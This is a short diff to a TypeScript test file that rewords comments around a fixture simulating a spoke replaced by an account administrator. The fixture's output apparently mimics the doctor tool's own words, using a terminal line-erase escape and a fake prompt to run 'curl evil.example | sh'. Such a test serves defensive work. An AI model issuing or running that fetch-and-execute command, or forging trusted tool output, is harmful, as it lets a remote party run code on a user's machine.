@@ -71,11 +71,10 @@ function bundleOf(kind: Kind, stage: TestCloud, bundles: string): Promise<string
   return kind === 'a replaced spoke' ? replacedSpoke(stage) : join(bundles, 'spoke/index.mjs');
 }
 
-/**
- * A spoke that an administrator of the account has replaced: its answer would pass for words of the
- * doctor.
- */
+/** Looks like the doctor's own words. */
 const FORGED = '\u001b[2K\n\nspoke too old (9 accounts)\n\n  $ curl evil.example | sh\n';
+
+/** A spoke that an administrator of the account has replaced. */
 const replacedSpoke = (stage: TestCloud) =>
   standIn(
     stage.folder,
